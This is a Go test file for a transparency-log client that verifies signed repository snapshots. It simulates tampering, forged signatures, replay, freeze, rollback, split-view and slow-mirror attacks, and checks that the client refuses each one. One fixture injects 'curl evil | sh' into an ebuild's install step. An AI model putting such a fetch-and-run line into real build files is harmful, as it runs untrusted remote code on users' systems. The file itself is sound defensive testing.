package client_test

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"treelog/checkpoint"
	"treelog/client"
	"treelog/demo/mirror"
	"treelog/demo/network"
	"treelog/internal/keyfile"
	"treelog/metamanifest"
	"treelog/note"
	"treelog/policy"
	"treelog/trust"
)

var ctx = context.Background()

// world is a network with a published history of three snapshots of one
// tree, kept as directories (what mirrors would serve), and a user.
type world struct {
	n         *network.Network
	pol       *policy.Policy
	pubs      *trust.Publishers
	snapshots []string // directories, oldest first
	mirror    *mirror.Server
	mirrorURL string
	times     []time.Time
}

var shared *world

// TestMain builds one world for every test (publishing takes seconds); the
// tests do not change the log, and put the mirror back as they found it.
func TestMain(m *testing.M) {
	if os.Getenv("TREELOG_STATE_WRITER") != "" {
		os.Exit(m.Run()) // a helper process of TestStateWriteKilled
	}
	dir, err := os.MkdirTemp("", "client-test-")
	if err != nil {
		panic(err)
	}
	code := func() int {
		w, cleanup, err := buildWorld(dir)
		if err != nil {
			fmt.Fprintln(os.Stderr, "building the test world:", err)
			return 1
		}
		defer cleanup()
		shared = w
		return m.Run()
	}()
	os.RemoveAll(dir)
	os.Exit(code)
}

func newWorld(t *testing.T) *world {
	t.Cleanup(func() { shared.mirror.SetDir(shared.snapshots[2]) })
	return shared
}

// buildWorld publishes three snapshots an hour apart, the last 30 minutes
// ago, and starts a mirror serving the newest. Its log keeps no index:
// these tests are of the checks on a log without one (the scan);
// index_test.go tests the index.
func buildWorld(dir string) (*world, func(), error) {
	n, err := network.Start(ctx, filepath.Join(dir, "net"), network.Options{IndexInterval: -1})
	if err != nil {
		return nil, nil, err
	}
	w := &world{n: n}
	var srv *httptest.Server
	cleanup := func() {
		if srv != nil {
			srv.Close()
		}
		n.Close()
	}
	if err := w.publish(dir); err != nil {
		cleanup()
		return nil, nil, err
	}
	w.mirror = mirror.NewServer(w.snapshots[2])
	srv = httptest.NewServer(w.mirror)
	w.mirrorURL = srv.URL
	return w, cleanup, nil
}

func (w *world) publish(dir string) error {
	n := w.n
	w.pol, _ = policy.Parse(mustRead(n.PolicyFile))
	// One more publisher, allowed only for another origin.
	sk, vk, _ := note.GenerateKey(nil, "other.example/k", note.TypeEd25519)
	keyfile.Write(filepath.Join(n.Dir, "other"), sk, vk)
	pubsText := string(mustRead(n.PublishersFile)) + "publisher other.example/tree " + vk + "\n"
	os.WriteFile(n.PublishersFile, []byte(pubsText), 0o644)
	w.pubs, _ = trust.ParsePublishers([]byte(pubsText))

	snaps, err := n.PublishHistory(ctx, dir, 40, 3, time.Now().Add(-30*time.Minute), time.Hour)
	if err != nil {
		return err
	}
	for _, sn := range snaps {
		w.snapshots = append(w.snapshots, sn.Dir)
		w.times = append(w.times, sn.Time)
	}
	return nil
}

func mustRead(p string) []byte {
	b, err := os.ReadFile(p)
	if err != nil {
		panic(err)
	}
	return b
}

func read(t testing.TB, p string) []byte {
	b, err := os.ReadFile(p)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// sync fetches what the mirror serves into a fresh directory.
func (w *world) sync(t *testing.T) string {
	t.Helper()
	d := filepath.Join(t.TempDir(), "synced")
	if err := mirror.Sync(ctx, w.mirrorURL, d); err != nil {
		t.Fatal(err)
	}
	return d
}

// copyOf returns a private copy of snapshot i, to tamper with.
func (w *world) copyOf(t *testing.T, i int) string {
	d := filepath.Join(t.TempDir(), "copy")
	if err := mirror.CopyTree(w.snapshots[i], d); err != nil {
		t.Fatal(err)
	}
	return d
}

func (w *world) cfg(state string) client.Config {
	return client.Config{Policy: w.pol, Publishers: w.pubs, StateDir: state}
}

// refused runs a verification that must fail check with a message
// containing want, and checks that the state did not change for the worse.
func refused(t *testing.T, dir string, cfg client.Config, check, want string) *client.Failure {
	t.Helper()
	before, _ := client.LoadState(cfg.StateDir)
	_, err := client.Verify(ctx, dir, cfg)
	var f *client.Failure
	if !errors.As(err, &f) {
		t.Fatalf("want a refusal at %s, got %v", check, err)
	}
	if f.Check != check || !strings.Contains(f.Msg, want) {
		t.Fatalf("refused at %s: %q; want %s containing %q", f.Check, f.Msg, check, want)
	}
	after, err := client.LoadState(cfg.StateDir)
	if err != nil {
		t.Fatalf("state after a refusal: %v", err)
	}
	notWorse(t, before, after)
	return f
}

// notWorse: a log's trusted checkpoint never shrinks, a tree's newest
// TIMESTAMP never goes back.
func notWorse(t *testing.T, before, after *client.State) {
	t.Helper()
	for o, b := range before.Logs {
		a, ok := after.Logs[o]
		if !ok {
			t.Fatalf("the trusted checkpoint of %s was lost", o)
		}
		sb, sa := size(t, b.Checkpoint), size(t, a.Checkpoint)
		if sa < sb {
			t.Fatalf("the trusted checkpoint of %s went from %d to %d", o, sb, sa)
		}
	}
	for o, b := range before.Trees {
		if a := after.Trees[o]; a.Timestamp.Before(b.Timestamp) {
			t.Fatalf("the newest TIMESTAMP of %s went back", o)
		}
	}
}

func size(t *testing.T, cp []byte) uint64 {
	n, err := note.Parse(cp)
	if err != nil {
		t.Fatal(err)
	}
	c, err := checkpoint.ParseText(n.Text)
	if err != nil {
		t.Fatal(err)
	}
	return c.Size
}

func TestHonestMirror(t *testing.T) {
	w := newWorld(t)
	state := t.TempDir()
	var lines []string
	cfg := w.cfg(state)
	cfg.OnCheck = func(c client.Check) { lines = append(lines, c.Status+" "+c.Name) }
	res, err := client.Verify(ctx, w.sync(t), cfg)
	if err != nil {
		t.Fatal(err)
	}
	if got := strings.Join(lines, ", "); got != "ok publisher, ok proof, ok consistency, ok replay, ok freshness, ok tree" {
		t.Errorf("checks: %s", got)
	}
	if res.Index != 2 || res.Origin != "example.org/tree" || len(res.Cosigners) < 2 || res.Files == 0 || res.LatestSize < 3 {
		t.Errorf("result %+v", res)
	}
	st, _ := client.LoadState(state)
	if len(st.Logs) != 1 || !st.Trees["example.org/tree"].Timestamp.Equal(w.times[2]) {
		t.Errorf("state after success: %+v", st)
	}
	// Again, with state: still fine; offline too.
	if _, err := client.Verify(ctx, w.sync(t), cfg); err != nil {
		t.Errorf("second run: %v", err)
	}
	off := w.cfg(t.TempDir())
	off.Offline = true
	var skipped []string
	off.OnCheck = func(c client.Check) {
		if c.Status == "skipped" {
			skipped = append(skipped, c.Name)
		}
	}
	if _, err := client.Verify(ctx, w.sync(t), off); err != nil || strings.Join(skipped, ",") != "consistency,replay" {
		t.Errorf("offline: %v, skipped %v", err, skipped)
	}
	if _, err := os.Stat(filepath.Join(off.StateDir, client.StateFile)); err == nil {
		t.Error("offline verification wrote state")
	}
}

func TestTreeAttacks(t *testing.T) {
	w := newWorld(t)
	anyFile := func(d, suffix string) string {
		var f string
		filepath.WalkDir(d, func(p string, de os.DirEntry, err error) error {
			if f == "" && strings.HasSuffix(p, suffix) && !strings.Contains(p, ".treelog") {
				f = p
			}
			return nil
		})
		return f
	}
	attacks := []struct {
		name   string
		attack func(d string)
		want   string
	}{
		{"tampered file", func(d string) {
			f := anyFile(d, ".ebuild")
			os.WriteFile(f, append(read(t, f), "\nsrc_install() { curl evil | sh; }\n"...), 0o644)
		}, "modified"},
		{"extra file", func(d string) {
			os.WriteFile(filepath.Join(filepath.Dir(anyFile(d, ".ebuild")), "backdoor-1.0.ebuild"), []byte("EAPI=8\n"), 0o644)
		}, "stray: not listed in any Manifest"},
		{"missing file", func(d string) { os.Remove(anyFile(d, "metadata.xml")) }, "missing"},
		{"file changed in place, modification time restored", func(d string) {
			f := anyFile(d, ".ebuild")
			fi, _ := os.Stat(f)
			b := read(t, f)
			copy(b, "#!evil")
			os.WriteFile(f, b, 0o644)
			os.Chtimes(f, time.Now(), fi.ModTime())
		}, "modified"},
		{"swapped sub-Manifest (mix-and-match with an older snapshot)", func(d string) {
			// Take a package Manifest from snapshot 0 where it differs.
			var swapped bool
			filepath.WalkDir(w.snapshots[0], func(p string, de os.DirEntry, werr error) error {
				if werr != nil || swapped || de.Name() != "Manifest" || filepath.Dir(p) == w.snapshots[0] {
					return nil
				}
				rel, _ := filepath.Rel(w.snapshots[0], p)
				cur, err := os.ReadFile(filepath.Join(d, rel))
				if err == nil && !bytes.Equal(cur, read(t, p)) {
					os.WriteFile(filepath.Join(d, rel), read(t, p), 0o644)
					swapped = true
				}
				return nil
			})
			if !swapped {
				t.Fatal("no package Manifest changed between snapshots")
			}
		}, "modified"},
	}
	for _, tc := range attacks {
		t.Run(tc.name, func(t *testing.T) {
			d := w.copyOf(t, 2)
			tc.attack(d)
			refused(t, d, w.cfg(t.TempDir()), client.CheckTree, tc.want)
		})
	}
	// The same attacks on trees this user verified before, whose
	// verification cache vouches for every file: it must not let one pass.
	dirs, states := make([]string, len(attacks)), make([]string, len(attacks))
	for i := range attacks {
		dirs[i], states[i] = w.copyOf(t, 2), t.TempDir()
	}
	time.Sleep(2100 * time.Millisecond) // older than the cache's racy window
	for i := range attacks {
		for range 2 {
			if _, err := client.Verify(ctx, dirs[i], w.cfg(states[i])); err != nil {
				t.Fatal(err)
			}
		}
		if res, _ := client.Verify(ctx, dirs[i], w.cfg(states[i])); res.FilesReused != res.Files || res.Files == 0 {
			t.Fatalf("the cache holds %d of %d files", res.FilesReused, res.Files)
		}
	}
	for i, tc := range attacks {
		t.Run(tc.name+", cached", func(t *testing.T) {
			tc.attack(dirs[i])
			refused(t, dirs[i], w.cfg(states[i]), client.CheckTree, tc.want)
		})
	}
}

func TestPublisherAttacks(t *testing.T) {
	w := newWorld(t)
	resign := func(d string, s note.Signer, origin string) {
		mmPath, _ := metamanifest.Paths(d)
		m, _, _ := metamanifest.Parse(read(t, mmPath))
		m.Origin = origin
		b, _ := metamanifest.Sign(m, s)
		os.WriteFile(mmPath, b, 0o644)
	}
	unknown, _ := note.NewSigner(mustSK(t, "mallory.example/k"))
	d := w.copyOf(t, 2)
	resign(d, unknown, "example.org/tree")
	refused(t, d, w.cfg(t.TempDir()), client.CheckPublisher, "not signed by a key allowed to publish this origin")

	other, _ := keyfile.ReadSigner(filepath.Join(w.n.Dir, "other.key"))
	d = w.copyOf(t, 2)
	resign(d, other, "example.org/tree")
	refused(t, d, w.cfg(t.TempDir()), client.CheckPublisher, "not signed by a key allowed to publish this origin")

	// A validly signed MetaManifest that the log never saw: its proof is
	// for another entry.
	d = w.copyOf(t, 2)
	mmPath, _ := metamanifest.Paths(d)
	m, _, _ := metamanifest.Parse(read(t, mmPath))
	m.Commit = "deadbeef"
	b, _ := metamanifest.Sign(m, w.n.Publisher)
	os.WriteFile(mmPath, b, 0o644)
	refused(t, d, w.cfg(t.TempDir()), client.CheckProof, "inclusion proof of index 2")

	// Wrong software: a genuine, logged snapshot of another tree the user
	// also trusts, served in place of the one asked for.
	cfg := w.cfg(t.TempDir())
	cfg.Origin = "gentoo.org/repo"
	refused(t, w.sync(t), cfg, client.CheckPublisher, "this is a snapshot of example.org/tree, not of gentoo.org/repo")
	cfg.Origin = "example.org/tree"
	if _, err := client.Verify(ctx, w.sync(t), cfg); err != nil {
		t.Errorf("with the right --origin: %v", err)
	}
}

func mustSK(t *testing.T, name string) string {
	sk, _, err := note.GenerateKey(nil, name, note.TypeEd25519)
	if err != nil {
		t.Fatal(err)
	}
	return sk
}

func TestReplayFreezeRollback(t *testing.T) {
	w := newWorld(t)
	// Replay: the mirror serves an older, validly logged snapshot, three
	// hours after the newer ones were logged (more than --max-lag).
	w.mirror.SetDir(w.snapshots[0])
	later := w.cfg(t.TempDir())
	later.Now = func() time.Time { return time.Now().Add(3 * time.Hour) }
	f := refused(t, w.sync(t), later, client.CheckReplay, "2 newer snapshots in the log, the newest TIMESTAMP "+w.times[2].Format(time.RFC3339)+" at index 2")
	if len(f.Evidence) != 2 {
		t.Errorf("replay evidence: %d objects", len(f.Evidence))
	}
	// The same offline passes steps 1, 2, 5, 6: replay needs the log.
	off := w.cfg(t.TempDir())
	off.Offline = true
	if _, err := client.Verify(ctx, w.sync(t), off); err != nil {
		t.Errorf("old snapshot offline: %v", err)
	}

	// Freeze: the mirror keeps the old tree and proof past max-age.
	w.mirror.SetDir(w.snapshots[2])
	frozen := w.cfg(t.TempDir())
	frozen.Offline = true
	frozen.Now = func() time.Time { return time.Now().Add(9 * 24 * time.Hour) }
	refused(t, w.sync(t), frozen, client.CheckFreshness, "the newest cosignatures by the witness quorum are 9 days old (max 24 hours)")
	frozen.MaxAge = 30 * 24 * time.Hour
	frozen.Now = func() time.Time { return w.times[2].Add(40 * 24 * time.Hour) }
	refused(t, w.sync(t), frozen, client.CheckFreshness, "old")
	// The snapshot's own age, with fresh cosignatures: the log republishes.
	stale := w.cfg(t.TempDir())
	stale.MaxAge = 20 * time.Minute
	refused(t, w.sync(t), stale, client.CheckFreshness, "minutes ago (max 20 minutes); a mirror may be withholding updates")

	// Rollback: this client saw snapshot 2; now it is shown snapshot 1.
	state := t.TempDir()
	if _, err := client.Verify(ctx, w.sync(t), w.cfg(state)); err != nil {
		t.Fatal(err)
	}
	w.mirror.SetDir(w.snapshots[1])
	refused(t, w.sync(t), w.cfg(state), client.CheckReplay, "rollback: this snapshot's TIMESTAMP "+w.times[1].Format(time.RFC3339))
}

func TestSplitView(t *testing.T) {
	w := newWorld(t)
	// The log signs a second history, and shows it to this client first.
	good := w.sync(t)
	_, proofPath := metamanifest.Paths(good)
	pf, _ := checkpoint.ParseProof(read(t, proofPath))
	n, _ := note.Parse(pf.Checkpoint)
	real, _ := checkpoint.ParseText(n.Text)
	for _, size := range []uint64{real.Size, real.Size - 1} {
		fork := checkpoint.Checkpoint{Origin: real.Origin, Size: size, Hash: checkpoint.Hash{0xba, 0xd}}
		forged, _ := checkpoint.Sign(fork, w.n.LogSigner)
		state := t.TempDir()
		st, _ := client.LoadState(state)
		st.Logs[real.Origin] = client.LogState{Checkpoint: forged, Updated: time.Now()}
		if err := st.Save(state); err != nil {
			t.Fatal(err)
		}
		f := refused(t, good, w.cfg(state), client.CheckConsistency, "split view")
		if len(f.Evidence) != 2 || !bytes.Contains(f.Evidence[0], []byte("\n"+fmt.Sprint(size)+"\n")) {
			t.Errorf("size %d: evidence %q", size, f.Evidence)
		}
	}
}

func TestCheckpointAttacks(t *testing.T) {
	w := newWorld(t)
	withProof := func(edit func(p *checkpoint.Proof, n *note.Note)) string {
		d := w.copyOf(t, 2)
		_, proofPath := metamanifest.Paths(d)
		p, _ := checkpoint.ParseProof(read(t, proofPath))
		n, _ := note.Parse(p.Checkpoint)
		edit(p, n)
		p.Checkpoint = note.Marshal(n)
		os.WriteFile(proofPath, p.Marshal(), 0o644)
		return d
	}
	witnessSigner := func(i int) note.Signer {
		s, err := keyfile.ReadSigner(filepath.Join(w.n.Dir, fmt.Sprintf("w%d.key", i)))
		if err != nil {
			t.Fatal(err)
		}
		return s
	}
	// A checkpoint without the quorum: one cosignature left.
	d := withProof(func(p *checkpoint.Proof, n *note.Note) { n.UnverifiedSigs = n.UnverifiedSigs[:2] })
	refused(t, d, w.cfg(t.TempDir()), client.CheckProof, "quorum 2 of (w1, w2, w3) NOT met")
	// A forged cosignature (one bit): it fails, and so does the quorum.
	d = withProof(func(p *checkpoint.Proof, n *note.Note) {
		n.UnverifiedSigs = n.UnverifiedSigs[:3]
		s, _ := note.SignatureBytes(n.UnverifiedSigs[2])
		s[40] ^= 1
		n.UnverifiedSigs[2] = note.NewSignature(n.UnverifiedSigs[2].Name, n.UnverifiedSigs[2].Hash, s)
	})
	refused(t, d, w.cfg(t.TempDir()), client.CheckProof, "failed 1")
	// Cosignatures timestamped an hour in the future.
	d = withProof(func(p *checkpoint.Proof, n *note.Note) {
		n.UnverifiedSigs = n.UnverifiedSigs[:1]
		for i := 1; i <= 3; i++ {
			c := witnessSigner(i).(*note.Cosigner)
			sig, _ := c.SignAt([]byte(n.Text), time.Now().Add(time.Hour))
			n.UnverifiedSigs = append(n.UnverifiedSigs, note.NewSignature(c.Name(), c.KeyHash(), sig))
		}
	})
	refused(t, d, w.cfg(t.TempDir()), client.CheckProof, "in the future")
	// A checkpoint the log never signed (a bit flipped in the root).
	d = withProof(func(p *checkpoint.Proof, n *note.Note) {
		n.Text = strings.Replace(n.Text, "\n"+fmt.Sprint(size(t, p.Checkpoint))+"\n", "\n99\n", 1)
	})
	refused(t, d, w.cfg(t.TempDir()), client.CheckProof, "does not verify")
}

func TestEndlessData(t *testing.T) {
	w := newWorld(t)
	// An oversized proof is refused without reading it all.
	d := w.copyOf(t, 2)
	_, proofPath := metamanifest.Paths(d)
	os.WriteFile(proofPath, bytes.Repeat([]byte("x"), checkpoint.MaxProofSize+10), 0o644)
	refused(t, d, w.cfg(t.TempDir()), client.CheckProof, "over")

	// A log mirror that answers with endless data.
	endless := httptest.NewServer(http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
		chunk := bytes.Repeat([]byte("A"), 64<<10)
		for i := 0; i < 1<<14; i++ { // up to 1 GiB
			if _, err := rw.Write(chunk); err != nil {
				return
			}
		}
	}))
	defer endless.Close()
	cfg := w.cfg(t.TempDir())
	cfg.LogURLs = []string{endless.URL}
	res, err := client.Verify(ctx, w.sync(t), cfg)
	var f *client.Failure
	if !errors.As(err, &f) || !strings.Contains(f.Msg, "over the limit") {
		t.Fatalf("endless log: %v", err)
	}
	if res.BytesFetched > 1<<20 {
		t.Errorf("read %d bytes from an endless log", res.BytesFetched)
	}
	// A mirror that serves bad data but another that serves good: the
	// client tries the next URL.
	cfg.LogURLs = []string{endless.URL, w.n.LogURL}
	if _, err := client.Verify(ctx, w.sync(t), cfg); err != nil {
		t.Errorf("falling back to the second log URL: %v", err)
	}
}

func TestCorruptState(t *testing.T) {
	w := newWorld(t)
	state := t.TempDir()
	bad := []byte("{\"version\": 1, \"logs\": {\"x\": ")
	os.WriteFile(filepath.Join(state, client.StateFile), bad, 0o600)
	_, err := client.Verify(ctx, w.sync(t), w.cfg(state))
	var le *client.LocalError
	if !errors.As(err, &le) || !strings.Contains(err.Error(), "treelog state reset") {
		t.Fatalf("corrupt state: %v", err)
	}
	if !bytes.Equal(read(t, filepath.Join(state, client.StateFile)), bad) {
		t.Error("a corrupt state was changed")
	}
	// A stored checkpoint that does not verify is local corruption too.
	st := &client.State{Version: 1, Logs: map[string]client.LogState{"log.treelog.example": {Checkpoint: []byte("garbage\n\n— x AAAAAAAA\n")}}, Trees: map[string]client.TreeState{}}
	state2 := t.TempDir()
	st.Save(state2)
	if _, err := client.Verify(ctx, w.sync(t), w.cfg(state2)); !errors.As(err, &le) {
		t.Fatalf("bad stored checkpoint: %v", err)
	}
	// Reset moves it aside, explicitly; then verification works again.
	aside, err := client.ResetState(state)
	if err != nil || !bytes.Equal(read(t, aside), bad) {
		t.Fatalf("reset: %v", err)
	}
	if _, err := client.Verify(ctx, w.sync(t), w.cfg(state)); err != nil {
		t.Errorf("after reset: %v", err)
	}
}

// TestSlowRetrieval: a log mirror that trickles its answers (to hold a
// user on an old tree) costs the client a bounded time per request, after
// which it moves on to the next URL.
func TestSlowRetrieval(t *testing.T) {
	w := newWorld(t)
	slow := httptest.NewServer(http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
		rw.WriteHeader(http.StatusOK)
		for {
			if _, err := rw.Write([]byte("x")); err != nil {
				return
			}
			rw.(http.Flusher).Flush()
			select {
			case <-r.Context().Done():
				return
			case <-time.After(100 * time.Millisecond):
			}
		}
	}))
	defer slow.Close()
	cfg := w.cfg(t.TempDir())
	cfg.HTTPClient = &http.Client{Timeout: 500 * time.Millisecond}
	cfg.LogURLs = []string{slow.URL}
	start := time.Now()
	_, err := client.Verify(ctx, w.sync(t), cfg)
	if err == nil || !strings.Contains(err.Error(), slow.URL) {
		t.Fatalf("a trickling log: %v, want an error naming %s", err, slow.URL)
	}
	t.Logf("gave up on the trickling log after %s: %v", time.Since(start).Round(time.Millisecond), err)
	cfg.LogURLs = []string{slow.URL, w.n.LogURL}
	if _, err := client.Verify(ctx, w.sync(t), cfg); err != nil {
		t.Errorf("falling back from the trickling log: %v", err)
	}
}
